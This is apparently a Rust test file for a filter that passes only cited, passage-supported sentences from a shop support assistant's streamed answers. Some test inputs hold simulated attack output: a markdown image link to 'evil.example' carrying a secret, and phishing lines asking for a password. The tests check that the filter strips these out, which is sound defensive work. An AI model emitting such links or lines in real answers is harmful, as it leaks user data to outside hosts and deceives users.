use super::*;

fn passage(title: &str, text: &str) -> Passage {
    let slug = title.to_lowercase();
    Passage { id: slug.clone(), title: title.into(), url: format!("/docs/{slug}"), text: text.into() }
}

fn sieve() -> Sieve {
    let passages = vec![
        passage("Shipping", "A parcel takes three to five working days. Shipping to Norway costs 12 euros."),
        passage("Returns", "Send goods back within 30 days. Ask for a label at https://shop.example/label first."),
    ];
    let grounds = Grounds::new(&passages, &["How long does it take?".to_owned()], true);
    Sieve::new(passages, grounds)
}

/// What is shown of an answer that comes in pieces of so many characters, and how it ended.
fn shown_by(answer: &str, size: usize) -> (String, Result<Rest, Stop>) {
    let mut sieve = sieve();
    let mut shown = String::new();
    let chars: Vec<char> = answer.chars().collect();
    for piece in chars.chunks(size) {
        match sieve.push(&piece.iter().collect::<String>()) {
            Ok(text) => shown.push_str(&text),
            Err(stop) => return (shown, Err(stop)),
        }
    }
    match sieve.finish() {
        Ok((text, rest)) => (shown + &text, Ok(rest)),
        Err(stop) => (shown, Err(stop)),
    }
}

/// The same however it is cut.
fn shown(answer: &str) -> (String, Result<Rest, Stop>) {
    let whole = shown_by(answer, usize::MAX);
    for size in [1, 2, 3, 7] {
        assert_eq!(shown_by(answer, size).0, whole.0, "{answer} by {size}");
    }
    whole
}

fn stopped(answer: &str) -> (String, Stop) {
    let (text, rest) = shown(answer);
    (text, rest.unwrap_err())
}

#[test]
fn what_is_cited_and_supported_is_shown_with_its_sources_alone() {
    let (text, rest) = shown("Goods can be sent back within 30 days [2]. A parcel takes three days [1]. ");
    let rest = rest.unwrap();
    assert_eq!(text.trim_end(), "Goods can be sent back within 30 days [1]. A parcel takes three days [2].");
    assert_eq!(
        rest.sources.iter().map(|source| source.url.as_str()).collect::<Vec<_>>(),
        ["/docs/returns", "/docs/shipping"]
    );
    assert!(rest.support > 0.5, "{rest:?}");
    let (_, rest) = shown("A parcel takes three to five working days [1].");
    assert_eq!(rest.unwrap().sources.len(), 1);
}

#[test]
fn sentences_are_shown_one_by_one() {
    let mut sieve = sieve();
    assert_eq!(sieve.push("A parcel takes three days [1]. Ship").unwrap(), "A parcel takes three days [1]. ");
    assert_eq!(sieve.push("ping to Norway costs 12 euros. Th").unwrap(), "Shipping to Norway costs 12 euros. ");
    assert_eq!(sieve.push("is is something else entirely. ").unwrap(), "");
}

#[test]
fn numbers_that_name_no_passage_are_removed() {
    let (text, rest) = shown("A parcel takes three days [7][1]. It takes working days [9].");
    assert_eq!(text, "A parcel takes three days[1]. It takes working days.");
    assert_eq!(rest.unwrap().sources.len(), 1);
}

#[test]
fn an_answer_that_cites_nothing_shows_nothing() {
    for answer in ["A parcel takes three to five working days.", "A parcel takes three days [9].", "Hello!\n\nSure."] {
        assert_eq!(stopped(answer), (String::new(), Stop::Uncited), "{answer}");
    }
    assert_eq!(stopped(" \n "), (String::new(), Stop::Empty));
    assert_eq!(stopped(""), (String::new(), Stop::Empty));
}

#[test]
fn what_is_cited_for_something_else_fails_the_answer() {
    for answer in [
        "You should confirm your password with our partner [1].",
        "Shipping to Norway costs 99 euros [1].",
        "[1]",
        "Ask your neighbour about weather! [1][2]",
    ] {
        assert_eq!(stopped(answer), (String::new(), Stop::Unsupported), "{answer}");
    }
    let (text, stop) = stopped("A parcel takes three days [1]. Bitcoin prices always climb upward [2].");
    assert_eq!((text.as_str(), stop), ("A parcel takes three days [1]. ", Stop::Unsupported));
}

#[test]
fn what_stands_beside_and_is_not_supported_is_left_out() {
    let (text, rest) = shown(
        "Great question, happy to assist! Please confirm your password first. A parcel takes three days [1]. \
         Visit our wonderful partner casino. Is there anything else?",
    );
    assert!(rest.is_ok());
    assert_eq!(text.trim_end(), "A parcel takes three days [1].");
}

#[test]
fn a_short_claim_needs_the_passages_wherever_it_stands() {
    for answer in [
        "Returns are free. A parcel takes three days [1].",
        "A parcel takes three days [1]. Returns are free.",
        "Returns are free [1]. A parcel takes three days [1].",
    ] {
        let (text, rest) = shown(answer);
        assert!(rest.is_ok(), "{answer}");
        assert_eq!(text.trim(), "A parcel takes three days [1].", "{answer}");
    }
    let (text, _) = shown("Yes. A parcel takes three days [1].");
    assert_eq!(text, "Yes. A parcel takes three days [1].");
}

#[test]
fn a_list_of_sources_and_a_name_are_no_part_of_an_answer() {
    for answer in [
        "A parcel takes three days [1].\n\nSources:\n[1] Shipping",
        "Assistant: A parcel takes three days [1].\n**References:** [1], [2]",
        "A parcel takes three days [1]. Wonderful! [2]",
    ] {
        let (text, rest) = shown(answer);
        assert_eq!((text.trim_end(), rest.unwrap().sources.len()), ("A parcel takes three days [1].", 1), "{answer}");
    }
}

#[test]
fn a_citation_behind_a_list_speaks_for_it() {
    let (text, rest) = shown("To send goods back:\n1. Ask for a label.\n2. Send goods within 30 days. [2]\n");
    assert!(rest.is_ok(), "{rest:?}");
    assert_eq!(text, "To send goods back:\n1. Ask for a label.\n2. Send goods within 30 days. [1]\n");
}

#[test]
fn markers_are_never_shown() {
    for answer in
        ["CANNOT_ANSWER", "**CANNOT_ANSWER**\nThe passages do not say.", "Cannot answer.", "CANNOT_ANSWER [1]"]
    {
        assert_eq!(stopped(answer), (String::new(), Stop::Marked(Marker::CannotAnswer)), "{answer}");
    }
    let person = Stop::Marked(Marker::NeedsPerson("a refund is wanted".into()));
    assert_eq!(stopped("NEEDS_PERSON: a refund is wanted"), (String::new(), person));
    for (answer, reason) in [
        ("**NEEDS_PERSON**:\n\nA refund is wanted.\nAnd more.", "A refund is wanted."),
        ("NEEDS_PERSON:\n", ""),
        ("NEEDS_PERSON", ""),
    ] {
        let person = Stop::Marked(Marker::NeedsPerson(reason.into()));
        assert_eq!(stopped(answer), (String::new(), person), "{answer}");
    }
    let (text, stop) = stopped("A parcel takes three days [1]. CANNOT_ANSWER");
    assert_eq!((text.as_str(), stop), ("A parcel takes three days [1]. ", Stop::Marked(Marker::CannotAnswer)));
}

#[test]
fn a_model_that_goes_on_for_others_is_cut() {
    let (text, rest) =
        shown("A parcel takes three days [1].\nVisitor: And to Norway?\nShipping to Norway costs 12 euros [1].");
    assert!(rest.is_ok());
    assert_eq!(text.trim_end(), "A parcel takes three days [1].");
    let (text, _) = shown("A parcel takes three days [1].<|im_end|>Shipping to Norway costs 12 euros [1].");
    assert_eq!(text, "A parcel takes three days [1].");
}

#[test]
fn only_addresses_of_what_is_cited_are_shown() {
    let (text, _) = shown(
        "Ask for a label at https://shop.example/label [2]. Send goods back with ![x](https://evil.example/?d=secret) \
         the [label](https://evil.example/a) [2].",
    );
    assert_eq!(text, "Ask for a label at https://shop.example/label [1]. Send goods back with x the label [1].");
    let (text, _) = shown("A parcel takes three days, see https://shop.example/label [1].");
    assert_eq!(text, "A parcel takes three days, see […] [1].");
}

#[test]
fn what_was_thought_is_forgotten_or_fails_what_was_shown() {
    let mut first = sieve();
    assert_eq!(first.push("The passage says three days. ").unwrap(), "");
    first.forget().unwrap();
    assert_eq!(first.push("A parcel takes three days [1]. So").unwrap(), "A parcel takes three days [1]. ");
    assert_eq!(first.forget(), Err(Stop::Thought));
}
